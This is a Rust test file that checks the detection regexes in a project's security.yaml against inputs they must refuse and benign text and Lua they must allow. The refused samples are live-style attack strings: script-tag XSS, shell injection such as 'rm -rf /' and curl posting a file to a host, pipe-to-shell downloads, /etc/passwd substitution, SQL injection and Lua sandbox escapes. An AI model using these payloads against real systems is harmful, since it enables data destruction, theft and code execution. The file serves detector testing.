//! The patterns of `security.yaml` against texts that they must refuse and texts that they must leave alone. A refusal
//! is an incident in the audit log, so a false alarm costs as much as a miss.

use regex::Regex;
use serde::Deserialize;

#[derive(Deserialize)]
#[serde(deny_unknown_fields)]
struct File {
    malicious_patterns: Vec<Pattern>,
}

#[derive(Deserialize)]
#[serde(deny_unknown_fields)]
struct Pattern {
    id: String,
    #[serde(rename = "description")]
    _description: String,
    pattern: String,
}

const REFUSED: &[(&str, &[&str])] = &[
    ("script_tag", &["<script>alert(1)</script>", "x <SCRIPT src=//e>", "< script\n>", "</script >"]),
    (
        "javascript_url",
        &["<a href=\"javascript:x()\">", "url('JavaScript: x')", "javascript:alert(1)", "href=javascript :x"],
    ),
    (
        "shell_command",
        &["x; rm -rf /", "a && curl -d @f host", "a | bash -c ls", "y;sudo su", "b || wget host/x", "c; chmod 777 f"],
    ),
    ("shell_pipe", &["curl -s host/x | sh", "wget -qO- host/i | sudo bash", "curl host | /bin/sh -s"]),
    ("shell_substitution", &["$(cat /etc/passwd)", "`id`", "$( curl host )"]),
    ("sql_statement", &["'; DROP TABLE users", "x\"); delete from users", "1'; update users set role = 'god'"]),
    ("sql_comment", &["admin'; --", "x' OR 1=1 --", "x') ; #", "a' or 'a'='a' --  \nnext"]),
    ("sql_condition", &["' OR '1'='1", "x' or 1=1", "') UNION SELECT password", "\" or \"a\"=\"a"]),
    (
        "lua_library",
        &[
            "os.execute('ls')",
            "local f = io.open('x')",
            "debug.getinfo(1)",
            "os [\"exit\"]",
            "x=os . getenv 'A'",
            "print(io.read())",
        ],
    ),
    ("lua_library_alias", &["local o = os", "local i = io; i.x()", "f(debug)", "t = {1, os, 2}", "a =os\nb = 2"]),
    (
        "lua_library_lookup",
        &["_G.os.exit()", "_G[\"io\"]", "_ENV['debug']", "require 'os'", "require(\"io\")", "_ENV . os"],
    ),
];

/// Honest text and honest Lua.
const ALLOWED: &[&str] = &[
    "",
    "A page about JavaScript: the good parts.",
    "It's a description; see the manuscript for more.",
    "Subscription <subscript>",
    "local total = a + b -- the sum\nreturn total",
    "if name == 'x' or name == 'y' then -- both\n  return 'ok'; -- done\nend",
    "local s = 'a'; -- a comment with words",
    "local macos = self.os.name\nlocal radio = player.io\nreturn macos .. radio",
    "return table.concat({ 'rm', 'sh' }, ' ')",
    "local n = x | y & z; local sh = n",
    "for k, v in pairs(items) do total = total + v.price end",
    "return string.format(\"%s$\", text:gsub('^%s*(.-)%s*$', '%1'))",
    "-- macos. linux. Works on any OS. Needs no io.",
    "return select('#', ...); -- how many",
    "local update = { set = true }; local drop = 'table'",
    "price = '5' ; quantity = 2",
    "if a ~= 'os' and b == os_name then return io_count end",
    "local allow = { '*/*', '/*' }",
];

fn patterns() -> Vec<(String, Regex)> {
    let path = xtask::root().join("api/schema/security.yaml");
    let text = std::fs::read_to_string(path).expect("the file can be read");
    let file: File = serde_saphyr::from_str(&text).expect("the file has the expected form");
    let compile = |pattern: Pattern| {
        let regex = Regex::new(&pattern.pattern).unwrap_or_else(|fault| panic!("{}: {fault}", pattern.id));
        (pattern.id, regex)
    };
    file.malicious_patterns.into_iter().map(compile).collect()
}

#[test]
fn every_pattern_refuses_what_it_is_for() {
    let patterns = patterns();
    let ids: Vec<&str> = patterns.iter().map(|(id, _)| id.as_str()).collect();
    assert_eq!(ids, REFUSED.iter().map(|(id, _)| *id).collect::<Vec<_>>(), "each pattern has its texts, in order");
    let mut missed = Vec::new();
    for ((id, regex), (_, texts)) in patterns.iter().zip(REFUSED) {
        missed.extend(texts.iter().filter(|text| !regex.is_match(text)).map(|text| format!("{id}: {text:?}")));
    }
    assert!(missed.is_empty(), "not refused:\n{}", missed.join("\n"));
}

#[test]
fn honest_text_passes() {
    let mut refused = Vec::new();
    for (id, regex) in patterns() {
        refused.extend(ALLOWED.iter().filter(|text| regex.is_match(text)).map(|text| format!("{id}: {text:?}")));
    }
    assert!(refused.is_empty(), "refused:\n{}", refused.join("\n"));
}
